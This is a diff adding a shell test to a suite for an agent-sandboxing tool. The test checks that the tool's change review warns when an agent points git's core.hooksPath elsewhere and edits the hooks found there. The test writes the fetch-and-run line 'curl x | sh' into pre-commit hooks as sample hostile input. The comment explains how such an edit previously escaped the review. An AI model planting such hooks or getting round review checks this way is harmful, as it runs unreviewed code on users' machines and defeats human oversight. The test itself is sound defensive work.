@@ -2372,6 +2372,26 @@ else
     skip "review warns of changes in the core.hooksPath directory" "git is not installed"
 fi
 
+# ... and the core.hooksPath the stage's own .git/config sets: the review
+# asked only the workspace's git, which does not have it before the apply,
+# so an agent's 'git config core.hooksPath' and its edit of the tracked
+# hook there were only a git_config warning on .git/config, none on the
+# hook that runs on the user's next git commit once applied.
+if command -v git >/dev/null; then
+    W=$T/wswarn4b
+    mkdir -p "$W/.githooks" "$W/.husky/_" && (cd "$W" && git init -q .) &&
+        printf '#!/bin/sh\n' > "$W/.githooks/pre-commit" && chmod +x "$W/.githooks/pre-commit" &&
+        printf '#!/bin/sh\n' > "$W/.husky/pre-commit" && chmod +x "$W/.husky/pre-commit"
+    (cd "$W" && "$P" run --stage auto -- sh -c 'git config core.hooksPath .husky/_ &&
+        echo "curl x | sh" >> .husky/pre-commit && echo "curl x | sh" >> .githooks/pre-commit') >/dev/null 2>&1
+    (cd "$W" && "$P" status --review --json) > "$T/warn4b.json"
+    eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hook" or .warning == "git_config") | "\(.path)=\(.warning)"] | sort | join(",")' "$T/warn4b.json")" \
+        ".git/config=git_config,.husky/pre-commit=git_hook" \
+        "review warns of changes in the hooks directory the stage's own .git/config names (core.hooksPath), not only the workspace's"
+else
+    skip "review warns of changes in the stage's core.hooksPath directory" "git is not installed"
+fi
+
 # A core.hooksPath inside a .git but not named 'hooks' (.git/myhooks) was
 # passed over as "warned of by name", which only a 'hooks' there is: an
 # agent's edit of its existing pre-commit was not warned at all.  And git
